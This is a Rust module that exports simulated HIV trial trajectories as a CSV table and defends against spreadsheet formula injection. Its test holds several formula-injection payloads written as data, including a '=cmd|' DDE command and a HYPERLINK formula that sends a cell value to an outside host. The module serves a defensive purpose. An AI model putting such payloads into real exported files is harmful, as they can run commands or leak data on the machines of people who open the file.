//! The table of a run: one row a grid point, the columns arm by arm, for a spreadsheet or a plot.
//!
//! Lines in front that start with `#` carry the link, the versions, the notices and the sources. Decimal point, comma between
//! columns, no number quoted. A notice repeats what a link holds, and a spreadsheet takes a cell that begins with `=`, `+`, `-`
//! or `@` for a formula: so the notice is one quoted cell behind the `#`, and no semicolon or tab is in it. A column is named `a_cd4_p50`: arm, quantity, statistic; without a statistic it is the typical patient's.

use super::markup::one_line;
use super::provenance::Provenance;
use crate::notice::Notice;
use crate::population::new_trial::{Forecast, Interval};
use crate::trajectory::{ArmTrajectory, Trajectory};
use std::fmt::Write;

/// The table of a run as text.
pub fn table(provenance: &Provenance, notices: &[Notice], run: &Trajectory) -> String {
    table_with(provenance, notices, run, Intervals::default())
}

/// Intervals in the head of a table.
#[derive(Clone, Copy, Debug, Default)]
pub struct Intervals<'a> {
    /// Where a new trial would land.
    pub forecast: Option<&'a Forecast>,
    /// Where a trial like that of a result would land, by the result's id.
    pub results: &'a [(&'static str, Interval)],
}

/// [`table`], with intervals in its head where there are any.
pub fn table_with(
    provenance: &Provenance,
    notices: &[Notice],
    run: &Trajectory,
    Intervals { forecast, results }: Intervals<'_>,
) -> String {
    let columns: Vec<(String, &[f64])> = run.arms.iter().flat_map(columns).collect();
    let mut out = head(provenance, notices);
    if let Some(forecast) = forecast {
        let arms = run.arms.iter().map(|arm| arm.name.key()).chain(["difference"]);
        for (name, expected) in arms.zip(forecast.arms.iter().chain([&forecast.difference])) {
            for (statistic, [p05, p50, p95]) in expected.by_name() {
                let _ = writeln!(out, "# New trial: {name} {statistic}: {p05} {p50} {p95}");
            }
        }
    }
    for (id, [p05, p50, p95]) in results {
        let _ = writeln!(out, "# New trial like {id}: {p05} {p50} {p95}");
    }
    out.push_str("week");
    for (name, _) in &columns {
        out.push(',');
        out.push_str(name);
    }
    out.push('\n');
    for (row, week) in run.weeks.iter().enumerate() {
        number(&mut out, Some(*week));
        for (_, values) in &columns {
            out.push(',');
            number(&mut out, values.get(row).copied());
        }
        out.push('\n');
    }
    out
}

fn head(provenance: &Provenance, notices: &[Notice]) -> String {
    let mut out = String::new();
    let mut line = |name: &str, text: &str| {
        let _ = if name == NOTICE || has_formula(text) {
            writeln!(out, "#,\"{name}: {}\"", text.replace('"', "\"\"").replace([';', '\t'], ","))
        } else {
            writeln!(out, "# {name}: {text}")
        };
    };
    let (first, sources): (Vec<_>, Vec<_>) = provenance.lines().into_iter().partition(|(name, _)| *name != "Source");
    for (name, text) in &first {
        line(name, text);
    }
    line("Units", "weeks; CD4 in cells/µL; HIV RNA in log10 copies/mL; IL-2 in blood in IU/mL");
    for notice in notices {
        line(NOTICE, &one_line(&notice.to_string()));
    }
    for (name, text) in &sources {
        line(name, text);
    }
    out
}

const NOTICE: &str = "Notice";

/// Whether a spreadsheet that splits a text at commas, semicolons or tabs would find a formula in it.
fn has_formula(text: &str) -> bool {
    let mut cells = text.split([',', ';', '\t']).skip(1);
    cells.any(|cell| {
        cell.trim_start_matches(|sign: char| sign.is_whitespace() || matches!(sign, '"' | '\''))
            .starts_with(['=', '+', '-', '@'])
    })
}

fn columns(arm: &ArmTrajectory) -> Vec<(String, &[f64])> {
    let typical = &arm.typical;
    let mut columns: Vec<(&str, &[f64])> = vec![
        ("cd4", &typical.cd4),
        ("naive", &typical.naive),
        ("memory", &typical.memory),
        ("expanded", &typical.expanded),
        ("rna_log10", &typical.rna_log10),
        ("il2_iu_ml", &typical.il2_iu_ml),
    ];
    if let Some(population) = &arm.population {
        let cd4 = &population.cd4;
        columns.extend([
            ("cd4_p05", cd4.p05.as_slice()),
            ("cd4_p25", &cd4.p25),
            ("cd4_p50", &cd4.p50),
            ("cd4_p75", &cd4.p75),
            ("cd4_p95", &cd4.p95),
            ("cd4_mean", &cd4.mean),
            ("rna_log10_p50", &population.rna_log10.p50),
        ]);
    }
    let name = arm.name.key();
    columns.into_iter().map(|(column, values)| (format!("{name}_{column}"), values)).collect()
}

/// A finite number; an empty cell for anything else.
fn number(out: &mut String, value: Option<f64>) {
    if let Some(value) = value.filter(|value| value.is_finite()) {
        let _ = write!(out, "{value}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::link;

    /// The cells of a table, split as a spreadsheet does with this character between them.
    fn cells(table: &str, between: char) -> Vec<String> {
        let mut cells = Vec::new();
        for line in table.lines() {
            let (mut cell, mut quoted) = (String::new(), false);
            let mut letters = line.chars().peekable();
            while let Some(letter) = letters.next() {
                match letter {
                    '"' if quoted && letters.next_if_eq(&'"').is_some() => cell.push('"'),
                    '"' if cell.is_empty() || quoted => quoted = !quoted,
                    other if other == between && !quoted => cells.push(std::mem::take(&mut cell)),
                    other => cell.push(other),
                }
            }
            cells.push(cell);
        }
        cells
    }

    #[test]
    fn no_cell_is_a_formula_whatever_the_link_holds() {
        let attacks = [
            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&zz=1%2C%3Dcmd%7C%27%2FC%20calc%27%21A0%2Cx",
            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&n=9,=HYPERLINK(\"http://e.x/\"&A1),y",
            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&n=%22%2C%3D1%2B1&art=;@SUM(A1)&k=%09-1",
            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&=cmd,+1=2&zz,%3D2=-1&yy=1%2C%C2%A0%3D1",
        ];
        for link in attacks {
            let decoded = link::decode(link).unwrap();
            assert!(!decoded.notices.is_empty(), "{link}");
            let run = crate::simulation::simulate(&decoded.scenario);
            let table = table(&Provenance::new(&decoded.canonical(), None, &[]), &decoded.notices, &run);
            for between in [',', ';', '\t'] {
                for cell in cells(&table, between) {
                    let cell = cell.trim_start();
                    let is_number = cell.split(',').all(|part| part.is_empty() || part.parse::<f64>().is_ok());
                    assert!(is_number || !cell.starts_with(['=', '+', '-', '@']), "{link}: {cell}");
                }
            }
        }
    }
}
